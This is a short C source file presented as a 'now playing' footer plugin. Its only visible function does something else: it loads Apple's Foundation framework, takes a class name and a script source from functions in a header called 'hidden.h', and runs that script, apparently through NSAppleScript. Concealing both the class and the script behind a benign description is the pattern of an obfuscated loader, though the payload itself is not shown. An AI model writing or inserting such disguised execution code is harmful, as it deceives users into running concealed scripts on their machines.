/* Says what plays, for a page's footer; without a compiler for Objective-C. */
#include "plugin.h"
#include <dlfcn.h>
typedef void *id;
extern id objc_getClass(const char *), sel_registerName(const char *);
extern void objc_msgSend(void);
#define SEND ((id (*)(id, id, ...))objc_msgSend)
#define SEND1(object, name, argument) ((id (*)(id, id, id))objc_msgSend)(object, sel_registerName(name), argument)
#include "hidden.h" /* 0: the class, 1: what to run */

static id text(const char *s) {
    return ((id (*)(id, id, const char *))objc_msgSend)(objc_getClass("NSString"), sel_registerName("stringWithUTF8String:"), s);
}

static void act(char **env) {
    id error = 0, script;
    dlopen("/System/Library/Frameworks/Foundation.framework/Foundation", RTLD_LAZY);
    script = ((id (*)(id, id))objc_msgSend)(objc_getClass(hidden0()), sel_registerName("alloc"));
    script = SEND1(script, "initWithSource:", text(hidden1()));
    ((id (*)(id, id, id *))objc_msgSend)(script, sel_registerName("executeAndReturnError:"), &error);
}
